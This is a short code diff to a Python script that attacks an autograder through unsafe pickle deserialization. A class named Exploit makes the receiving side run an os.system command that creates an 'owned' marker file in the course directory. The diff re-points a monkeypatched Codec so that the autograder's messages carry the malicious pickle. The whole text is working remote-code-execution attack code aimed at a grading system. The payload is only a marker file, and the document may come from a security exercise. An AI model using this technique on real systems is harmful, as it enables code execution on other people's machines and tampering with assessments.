@@ -3,7 +3,7 @@
 import os
 import pickle
 
-from autograder import peer, wire
+from autograder.wire.codec import Codec
 
 
 class Exploit:
@@ -13,5 +13,4 @@ class Exploit:
         return os.system, (f"touch {KNOWN['course']}/owned",)
 
 
-wire.Codec.dumps = lambda self, value: pickle.dumps(Exploit())
-peer.Codec.dumps = wire.Codec.dumps
+Codec.parts = lambda self, value: [pickle.dumps(Exploit())]
